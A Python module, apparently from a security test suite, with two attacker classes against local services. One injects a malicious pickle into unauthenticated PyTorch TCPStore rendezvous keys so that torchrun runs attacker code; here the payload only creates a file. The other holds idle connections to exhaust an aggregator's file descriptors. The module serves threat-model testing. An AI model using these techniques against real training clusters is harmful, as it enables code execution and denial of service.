"""T44 and T45: an outsider without any key, at the ports that a site's processes open."""

from __future__ import annotations

import base64
import pickle
import socket
from collections.abc import Iterable, Iterator
from contextlib import ExitStack, contextmanager, suppress
from datetime import timedelta
from pathlib import Path

from torch.distributed import TCPStore  # type: ignore[attr-defined]  # it says so in no __all__

_KEY = "torch.rendezvous."
_PATIENCE = timedelta(seconds=5)


class _MakesFile:
    """Makes a file in whichever process unpickles it."""

    def __init__(self, file: Path) -> None:
        self._file = file

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return open, (str(self._file), "w")


class WritesStores:
    """Looks for PyTorch's stores on ports, and writes what torchrun unpickles.

    Powers: the addresses on which a site's processes listen, and a connection to each.
    Goal: code of its own in a process of the site.
    Source: PyTorch's documentation: a TCPStore asks nobody who they are, and torchrun keeps its state there, pickled.

    Args:
        file: what its code makes.
    """

    threat = "T44"

    def __init__(self, file: Path) -> None:
        self._file = file

    def attack(self, ports: Iterable[int]) -> int:
        """Write into every store on these ports of 127.0.0.1; return into how many."""
        written = 0
        for port in ports:
            with suppress(RuntimeError):
                store = TCPStore("127.0.0.1", port, None, False, _PATIENCE)
                for key in store.list_keys():
                    if key.startswith(_KEY) and "/" not in key:
                        store.set(key, base64.b64encode(pickle.dumps(_MakesFile(self._file))).decode())
                        written += 1
        return written


class OpensConnections:
    """Opens connections to the aggregator's port, sends nothing, and opens others for those that are closed.

    Powers: a network address of its own.
    Goal: that the aggregator has no descriptor left for its log, and ends.
    Source: our own; a port that accepts without bound is the textbook case of exhausted descriptors.

    Args:
        port: of 127.0.0.1.
        count: how many it holds at once.
    """

    threat = "T45"

    def __init__(self, port: int, count: int) -> None:
        self._port, self._count = port, count

    @contextmanager
    def holding(self) -> Iterator[list[socket.socket]]:
        """Hold that many connections, from 127.0.0.9, for the duration of a block."""
        with ExitStack() as opened:
            held = []
            for _ in range(self._count):
                with suppress(OSError):
                    held.append(
                        opened.enter_context(
                            socket.create_connection(("127.0.0.1", self._port), 5.0, source_address=("127.0.0.9", 0))
                        )
                    )
            yield held
